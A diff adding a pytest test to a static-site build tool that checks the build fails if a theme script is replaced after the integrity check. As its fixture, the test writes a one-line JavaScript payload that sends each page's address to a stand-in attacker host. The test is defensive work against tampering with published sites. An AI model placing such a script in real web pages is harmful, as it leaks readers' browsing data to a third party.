@@ -605,3 +605,29 @@ def test_a_template_edited_after_the_check_is_not_rendered(tmp_path):
     with pytest.raises(BuildFailed, match="partials/footer.html.*在检查之后被修改"):
         build_site(fixture.root, site, today=fixture.today, echo=edit)
     assert hashes(site) == before
+
+
+def test_a_theme_script_replaced_after_the_check_is_not_published(tmp_path):
+    """MkDocs copies the theme's files at the end of the build, after the check compared gongkai's own scripts
+    with the manifest: one replaced meanwhile (a script that sends each reader's address elsewhere) went into
+    every page of the site. Now the build fails, naming the file, and site/ stays as it was."""
+    from gongkai.commands.build import build_site
+
+    fixture = make_project(tmp_path / "project", news=3)
+    theme = fixture.root / "theme_overrides"
+    shared = theme.resolve()
+    theme.unlink()
+    shutil.copytree(shared, theme)
+    site = fixture.root / "site"
+    build(fixture, site)
+    before = hashes(site)
+    script = sorted((theme / "assets" / "gongkai").rglob("*.js"))[0]
+
+    def replace(line: str) -> None:
+        if line.startswith("读取并检查内容"):
+            script.with_name("new.js").write_text("fetch('https://evil.example/?'+location)\n", encoding="utf-8")
+            os.replace(script.with_name("new.js"), script)
+
+    with pytest.raises(BuildFailed, match=f"{script.name} 在检查之后被替换或修改"):
+        build_site(fixture.root, site, today=fixture.today, echo=replace)
+    assert hashes(site) == before
